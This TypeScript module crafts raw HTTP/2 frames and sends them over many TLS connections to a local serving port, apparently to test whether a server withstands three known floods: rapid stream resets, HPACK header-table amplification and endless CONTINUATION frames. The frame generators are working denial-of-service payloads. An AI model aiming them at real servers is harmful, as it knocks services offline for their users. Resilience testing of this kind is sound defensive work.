import { connect, type TLSSocket } from 'node:tls';
import type { ServingPort } from './readers.ts';

const HEADERS = 1;
const RESET = 3;
const SETTINGS = 4;
const CONTINUATION = 9;
const END_STREAM_AND_HEADERS = 5;
const END_HEADERS = 4;
const CANCEL = Buffer.from([0, 0, 0, 8]);

/** A frame of HTTP/2 (RFC 9113, section 4.1). */
function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const PREFACE = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  frame(SETTINGS, 0, 0, Buffer.alloc(0)),
]);

/** A field that is in no table (RFC 7541, section 6.2.2). */
function literal(name: string, value: string): Buffer {
  return Buffer.concat([
    Buffer.from([0, name.length]),
    Buffer.from(name),
    Buffer.from([value.length]),
    Buffer.from(value),
  ]);
}

const requestHead = (host: string, path: string) =>
  Buffer.concat([
    literal(':method', 'GET'),
    literal(':scheme', 'https'),
    literal(':path', path),
    literal(':authority', host),
  ]);

const numbers = (count: number) => Array.from({ length: count }, (_, i) => i);

/** Streams that are cancelled as soon as they are opened. */
export function rapidResets(host: string, path: string, streams = 10_000): Buffer {
  const head = requestHead(host, path);
  return Buffer.concat(
    numbers(streams).flatMap((i) => [
      frame(HEADERS, END_STREAM_AND_HEADERS, 2 * i + 1, head),
      frame(RESET, 0, 2 * i + 1, CANCEL),
    ]),
  );
}

/** Heads that name one long entry of the dynamic table thousands of times each. */
export function headBombs(host: string, path: string, streams = 200): Buffer {
  const head = requestHead(host, path);
  const long = 3900;
  const entry = Buffer.concat([
    Buffer.from([0x40, 1]),
    Buffer.from('z'),
    Buffer.from([0x7f, 0x80 + ((long - 127) % 128), Math.floor((long - 127) / 128)]),
    Buffer.alloc(long, 'a'),
  ]);
  return Buffer.concat([
    frame(HEADERS, END_STREAM_AND_HEADERS, 1, Buffer.concat([head, entry])),
    ...numbers(streams).map((i) =>
      frame(HEADERS, END_STREAM_AND_HEADERS, 2 * i + 3, Buffer.concat([head, Buffer.alloc(12_000, 0xbe)])),
    ),
  ]);
}

/** A head that never ends. */
export function endlessHead(host: string, path: string, frames = 30_000): Buffer {
  return Buffer.concat([
    frame(HEADERS, 0, 1, requestHead(host, path)),
    ...numbers(frames).map(() => frame(CONTINUATION, 0, 1, Buffer.alloc(0))),
    frame(CONTINUATION, END_HEADERS, 1, Buffer.alloc(0)),
  ]);
}

/** The same bytes on each of some connections over TLS; tells how many of them the server has ended. */
export async function sendFrames(
  edge: ServingPort,
  servername: string,
  bytes: Buffer,
  { connections = 20, seconds = 4 } = {},
): Promise<{ connections: number; ended: number }> {
  let ended = 0;
  const opened = await Promise.all(
    numbers(connections).map(
      (i) =>
        new Promise<TLSSocket>((resolve) => {
          const socket = connect(
            {
              ...{ ...edge, servername, localAddress: `127.0.3.${1 + i}` },
              ...{ rejectUnauthorized: false, ALPNProtocols: ['h2'] },
            },
            () => resolve(socket),
          );
          socket.on('error', () => resolve(socket));
          socket.on('close', () => ended++);
          socket.resume();
        }),
    ),
  );
  for (const socket of opened) {
    socket.write(PREFACE);
    socket.write(bytes);
  }
  await new Promise((resolve) => setTimeout(resolve, seconds * 1000));
  const result = { connections, ended };
  for (const socket of opened) socket.destroy();
  return result;
}
